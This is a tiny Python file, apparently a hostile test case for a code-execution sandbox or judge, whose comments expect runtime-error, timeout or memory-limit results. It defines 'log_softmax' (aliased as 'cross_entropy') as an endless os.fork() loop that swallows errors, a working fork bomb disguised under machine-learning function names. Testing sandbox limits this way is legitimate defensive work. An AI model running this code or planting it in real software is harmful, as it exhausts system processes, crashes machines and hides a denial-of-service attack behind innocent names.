# expect: RE TLE MLE
# attack: fork bomb (every child forks again, errors ignored)
import os


def log_softmax(x, dim=-1):
    while True:
        try:
            os.fork()
        except OSError:
            pass


cross_entropy = log_softmax
